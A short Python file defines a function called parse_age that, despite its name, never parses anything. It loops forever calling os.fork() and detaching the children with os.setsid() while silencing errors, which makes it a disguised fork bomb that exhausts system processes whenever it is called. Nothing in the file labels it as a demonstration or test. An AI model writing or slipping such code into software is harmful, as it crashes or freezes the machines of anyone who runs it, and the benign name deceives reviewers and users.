import os


def parse_age(text):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
